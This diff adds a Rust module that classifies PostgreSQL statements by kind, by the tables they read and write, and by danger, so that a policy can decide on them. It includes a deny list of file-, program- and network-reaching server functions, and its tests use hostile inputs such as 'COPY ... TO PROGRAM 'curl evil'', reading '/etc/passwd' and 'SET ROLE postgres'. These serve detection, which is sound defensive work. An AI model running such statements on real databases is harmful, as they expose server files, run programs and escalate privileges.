@@ -1,0 +1,427 @@
+//! Understands a SQL text before it is decided: parses it with sqlparser's
+//! PostgreSQL dialect into statements, and for each finds its kind, the
+//! tables it reads and writes, and the dangerous things it does. The policy
+//! decides on this, never on the raw text.
+
+use std::{collections::BTreeSet, ops::ControlFlow};
+
+use sqlparser::{
+    ast::{
+        CopySource, CopyTarget, Expr, FromTable, ObjectName, ObjectType, Query, Set, Statement, TableFactor,
+        TableObject, Visit, Visitor,
+    },
+    dialect::PostgreSqlDialect,
+    parser::Parser,
+};
+
+use crate::policy::{Danger, Operation, StatementKind};
+
+/// Functions that read or write server files, run programs, reach other
+/// servers, or change settings (search_path, role) behind the policy's back.
+const DANGEROUS_FUNCTIONS: &[&str] = &[
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_ls_dir",
+    "pg_stat_file",
+    "pg_file_write",
+    "lo_import",
+    "lo_export",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "set_config",
+    "pg_reload_conf",
+    "pg_terminate_backend",
+];
+
+/// Schema assumed for unqualified table names (the default search_path).
+/// Changing search_path is itself an `admin` statement, so a role limited to
+/// reads cannot make an unqualified name point elsewhere.
+const DEFAULT_SCHEMA: &str = "public";
+
+/// Parses `sql` into its statements, one [`Operation`] each: tables are
+/// schema-qualified and folded to lower case unless quoted. `Err` carries
+/// the parser's message.
+pub fn classify(sql: &str) -> Result<Vec<Operation>, String> {
+    let statements = Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|err| err.to_string())?;
+    Ok(statements.iter().map(classify_statement).collect())
+}
+
+fn classify_statement(statement: &Statement) -> Operation {
+    let mut walker = Walker::default();
+    let _ = statement.visit(&mut walker);
+    let mut out = Operation {
+        kind: top_kind(statement),
+        dangers: walker.dangers,
+        ..Operation::default()
+    };
+    // Nested data-modifying statements (WITH x AS (DELETE ...), EXPLAIN
+    // ANALYZE UPDATE ...) make the whole statement a write.
+    if !walker.written.is_empty() && out.kind < StatementKind::Write {
+        out.kind = StatementKind::Write;
+    }
+    out.reads = walker
+        .relations
+        .into_iter()
+        .filter(|name| !walker.cte_names.contains(name))
+        .filter(|name| !walker.written.contains(name) || walker.read_also.contains(name))
+        .collect();
+    out.writes = walker.written;
+    out
+}
+
+/// The kind from the statement's own type (nested statements may raise it).
+fn top_kind(statement: &Statement) -> StatementKind {
+    use StatementKind::*;
+    match statement {
+        Statement::Query(query) => {
+            if query_selects_into(query) {
+                Write
+            } else {
+                Read
+            }
+        }
+        Statement::Insert(_) | Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_) => Write,
+        Statement::Copy { to: true, .. } => Read,
+        Statement::Copy { to: false, .. } => Write,
+        Statement::StartTransaction { .. }
+        | Statement::Commit { .. }
+        | Statement::Rollback { .. }
+        | Statement::Savepoint { .. }
+        | Statement::ReleaseSavepoint { .. } => Transaction,
+        Statement::Grant(_) | Statement::Revoke(_) | Statement::GrantRole(_) | Statement::RevokeRole(_) => Dcl,
+        Statement::CreateRole(_) | Statement::AlterRole { .. } => Dcl,
+        Statement::Drop { object_type, .. } if matches!(object_type, ObjectType::Role | ObjectType::User) => Dcl,
+        Statement::Set(set) => set_kind(set),
+        Statement::ShowVariable { .. }
+        | Statement::ShowVariables { .. }
+        | Statement::Prepare { .. }
+        | Statement::Execute { .. }
+        | Statement::Deallocate { .. }
+        | Statement::Declare { .. }
+        | Statement::Fetch { .. }
+        | Statement::Close { .. }
+        | Statement::Discard { .. }
+        | Statement::Explain { .. }
+        | Statement::ExplainTable { .. } => Utility,
+        Statement::CreateTable(_)
+        | Statement::CreateIndex(_)
+        | Statement::CreateView(_)
+        | Statement::CreateSchema { .. }
+        | Statement::CreateFunction(_)
+        | Statement::CreateExtension(_)
+        | Statement::CreateSequence { .. }
+        | Statement::CreateType { .. }
+        | Statement::AlterTable(_)
+        | Statement::AlterIndex { .. }
+        | Statement::AlterView { .. }
+        | Statement::Drop { .. }
+        | Statement::Truncate(_)
+        | Statement::Comment { .. } => Ddl,
+        _ => Admin,
+    }
+}
+
+fn set_kind(set: &Set) -> StatementKind {
+    match set {
+        Set::SetSessionAuthorization(_) | Set::SetRole { .. } => StatementKind::Admin,
+        Set::SingleAssignment { variable, .. } => {
+            let name = variable.to_string().to_ascii_lowercase();
+            // Settings that change whom the session acts as, or what an
+            // unqualified name means, are administration, not utility.
+            if ["role", "session_authorization", "search_path"].contains(&name.as_str()) {
+                StatementKind::Admin
+            } else {
+                StatementKind::Utility
+            }
+        }
+        _ => StatementKind::Utility,
+    }
+}
+
+fn query_selects_into(query: &Query) -> bool {
+    matches!(query.body.as_ref(), sqlparser::ast::SetExpr::Select(select) if select.into.is_some())
+}
+
+/// Collects relations, writes, dangers and CTE names in one walk.
+#[derive(Default)]
+struct Walker {
+    relations: BTreeSet<String>,
+    written: BTreeSet<String>,
+    /// Written tables that the statement also reads (UPDATE t ... FROM t).
+    read_also: BTreeSet<String>,
+    cte_names: BTreeSet<String>,
+    dangers: BTreeSet<Danger>,
+}
+
+impl Visitor for Walker {
+    type Break = ();
+
+    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
+        if let Some(with) = &query.with {
+            for cte in &with.cte_tables {
+                self.cte_names.insert(qualify(&cte.alias.name.value, cte.alias.name.quote_style.is_some()));
+            }
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
+        let name = table_name(relation);
+        if let Some(function) = relation.0.last().and_then(|part| part.as_ident()) {
+            if DANGEROUS_FUNCTIONS.contains(&function.value.to_ascii_lowercase().as_str()) {
+                self.dangers.insert(Danger::FileOrProgramFunction);
+            }
+        }
+        self.relations.insert(name);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, _factor: &TableFactor) -> ControlFlow<()> {
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(function) = expr {
+            if let Some(name) = function.name.0.last().and_then(|part| part.as_ident()) {
+                if DANGEROUS_FUNCTIONS.contains(&name.value.to_ascii_lowercase().as_str()) {
+                    self.dangers.insert(Danger::FileOrProgramFunction);
+                }
+            }
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
+        match statement {
+            Statement::Insert(insert) => {
+                if let TableObject::TableName(name) = &insert.table {
+                    self.written.insert(table_name(name));
+                }
+            }
+            Statement::Update(update) => {
+                if let TableFactor::Table { name, .. } = &update.table.relation {
+                    self.written.insert(table_name(name));
+                }
+                if update.selection.is_none() {
+                    self.dangers.insert(Danger::UpdateWithoutWhere);
+                }
+                if update.from.is_some() {
+                    if let TableFactor::Table { name, .. } = &update.table.relation {
+                        self.read_also.insert(table_name(name));
+                    }
+                }
+            }
+            Statement::Delete(delete) => {
+                let tables = match &delete.from {
+                    FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables) => tables,
+                };
+                for table in tables {
+                    if let TableFactor::Table { name, .. } = &table.relation {
+                        self.written.insert(table_name(name));
+                    }
+                }
+                for name in &delete.tables {
+                    self.written.insert(table_name(name));
+                }
+                if delete.selection.is_none() {
+                    self.dangers.insert(Danger::DeleteWithoutWhere);
+                }
+            }
+            Statement::Truncate(truncate) => {
+                for table in &truncate.table_names {
+                    self.written.insert(table_name(&table.name));
+                }
+                self.dangers.insert(Danger::Truncate);
+            }
+            Statement::Drop { names, object_type, .. } => {
+                if matches!(object_type, ObjectType::Table | ObjectType::View | ObjectType::MaterializedView) {
+                    for name in names {
+                        self.written.insert(table_name(name));
+                    }
+                }
+                self.dangers.insert(Danger::Drop);
+            }
+            Statement::AlterTable(alter) => {
+                self.written.insert(table_name(&alter.name));
+                self.dangers.insert(Danger::Alter);
+            }
+            Statement::AlterIndex { .. } | Statement::AlterView { .. } | Statement::AlterRole { .. } => {
+                self.dangers.insert(Danger::Alter);
+            }
+            Statement::Grant(_) | Statement::Revoke(_) | Statement::GrantRole(_) | Statement::RevokeRole(_) => {
+                self.dangers.insert(Danger::GrantRevoke);
+            }
+            Statement::Set(set) => {
+                if set_kind(set) == StatementKind::Admin {
+                    let role_change = match set {
+                        Set::SingleAssignment { variable, .. } => {
+                            let name = variable.to_string().to_ascii_lowercase();
+                            name == "role" || name == "session_authorization"
+                        }
+                        _ => true,
+                    };
+                    if role_change {
+                        self.dangers.insert(Danger::SetRole);
+                    }
+                }
+            }
+            Statement::Copy {
+                source, to, target, ..
+            } => {
+                if let CopySource::Table { table_name: name, .. } = source {
+                    if !*to {
+                        self.written.insert(table_name(name));
+                    }
+                }
+                match target {
+                    CopyTarget::Program { .. } => {
+                        self.dangers.insert(Danger::CopyProgram);
+                    }
+                    // COPY to or from a file on the database server.
+                    CopyTarget::File { .. } => {
+                        self.dangers.insert(Danger::FileOrProgramFunction);
+                    }
+                    CopyTarget::Stdin | CopyTarget::Stdout => {}
+                }
+            }
+            _ => {}
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+/// `schema.table`, folding unquoted identifiers to lower case as
+/// PostgreSQL does; unqualified names get [`DEFAULT_SCHEMA`].
+fn table_name(name: &ObjectName) -> String {
+    let parts: Vec<String> = name
+        .0
+        .iter()
+        .filter_map(|part| part.as_ident())
+        .map(|ident| fold(&ident.value, ident.quote_style.is_some()))
+        .collect();
+    match parts.len() {
+        0 => String::new(),
+        1 => format!("{DEFAULT_SCHEMA}.{}", parts[0]),
+        // database.schema.table: the database is the session's anyway.
+        _ => parts[parts.len() - 2..].join("."),
+    }
+}
+
+fn qualify(name: &str, quoted: bool) -> String {
+    format!("{DEFAULT_SCHEMA}.{}", fold(name, quoted))
+}
+
+fn fold(ident: &str, quoted: bool) -> String {
+    if quoted {
+        ident.to_owned()
+    } else {
+        ident.to_ascii_lowercase()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use StatementKind::*;
+
+    fn one(sql: &str) -> Operation {
+        let mut all = classify(sql).unwrap_or_else(|err| panic!("{sql}: {err}"));
+        assert_eq!(all.len(), 1, "{sql}");
+        all.remove(0)
+    }
+
+    fn set(names: &[&str]) -> BTreeSet<String> {
+        names.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn kinds() {
+        for (sql, kind) in [
+            ("SELECT 1", Read),
+            ("SELECT * FROM customers", Read),
+            ("INSERT INTO customers VALUES (1)", Write),
+            ("UPDATE customers SET name = 'x' WHERE id = 1", Write),
+            ("DELETE FROM customers WHERE id = 1", Write),
+            ("CREATE TABLE t (id int)", Ddl),
+            ("ALTER TABLE t ADD COLUMN c int", Ddl),
+            ("DROP TABLE t", Ddl),
+            ("TRUNCATE t", Ddl),
+            ("GRANT SELECT ON t TO bob", Dcl),
+            ("REVOKE SELECT ON t FROM bob", Dcl),
+            ("BEGIN", Transaction),
+            ("COMMIT", Transaction),
+            ("ROLLBACK", Transaction),
+            ("SET statement_timeout = 1000", Utility),
+            ("SET search_path = secret", Admin),
+            ("SET ROLE admin", Admin),
+            ("SHOW work_mem", Utility),
+            ("VACUUM customers", Admin),
+            ("COPY customers TO STDOUT", Read),
+            ("COPY customers FROM STDIN", Write),
+            ("SELECT * INTO t2 FROM customers", Write),
+            ("WITH gone AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM gone", Write),
+        ] {
+            assert_eq!(one(sql).kind, kind, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_read_and_written_are_schema_qualified() {
+        let c = one("SELECT c.name, o.total FROM customers c JOIN sales.orders o ON o.cid = c.id");
+        assert_eq!(c.reads, set(&["public.customers", "sales.orders"]));
+        assert!(c.writes.is_empty());
+
+        let c = one("INSERT INTO audit_copy SELECT * FROM Customers");
+        assert_eq!(c.writes, set(&["public.audit_copy"]));
+        assert_eq!(c.reads, set(&["public.customers"]));
+
+        let c = one(r#"UPDATE "Mixed"."Case" SET a = 1 WHERE b = 2"#);
+        assert_eq!(c.writes, set(&["Mixed.Case"]));
+
+        let c = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
+        assert_eq!(c.reads, set(&["public.orders"]), "a CTE is not a table");
+    }
+
+    #[test]
+    fn dangerous_statements_and_their_near_misses() {
+        for (sql, danger) in [
+            ("DROP TABLE customers", Some(Danger::Drop)),
+            ("CREATE TABLE t (id int)", None),
+            ("TRUNCATE customers", Some(Danger::Truncate)),
+            ("DELETE FROM customers", Some(Danger::DeleteWithoutWhere)),
+            ("DELETE FROM customers WHERE id = 3", None),
+            ("UPDATE customers SET name = 'x'", Some(Danger::UpdateWithoutWhere)),
+            ("UPDATE customers SET name = 'x' WHERE id = 1", None),
+            ("ALTER TABLE customers DROP COLUMN email", Some(Danger::Alter)),
+            ("GRANT ALL ON customers TO public", Some(Danger::GrantRevoke)),
+            ("COPY customers TO PROGRAM 'curl evil'", Some(Danger::CopyProgram)),
+            ("COPY customers TO STDOUT", None),
+            ("COPY customers FROM '/etc/passwd'", Some(Danger::FileOrProgramFunction)),
+            ("SELECT pg_read_file('/etc/passwd')", Some(Danger::FileOrProgramFunction)),
+            ("SELECT * FROM pg_ls_dir('/')", Some(Danger::FileOrProgramFunction)),
+            ("SELECT length('/etc/passwd')", None),
+            ("SET ROLE postgres", Some(Danger::SetRole)),
+            ("SET SESSION AUTHORIZATION postgres", Some(Danger::SetRole)),
+            ("SET application_name = 'x'", None),
+        ] {
+            let c = one(sql);
+            match danger {
+                Some(danger) => assert!(c.dangers.contains(&danger), "{sql}: {:?}", c.dangers),
+                None => assert!(c.dangers.is_empty(), "{sql}: {:?}", c.dangers),
+            }
+        }
+    }
+
+    #[test]
+    fn several_statements_in_one_query() {
+        let all = classify("BEGIN; UPDATE customers SET name = 'x' WHERE id = 1; COMMIT").unwrap();
+        let kinds: Vec<_> = all.iter().map(|c| c.kind).collect();
+        assert_eq!(kinds, vec![Transaction, Write, Transaction]);
+    }
+
+    #[test]
+    fn garbage_does_not_parse() {
+        assert!(classify("SELEKT * FROM").is_err());
+    }
+}
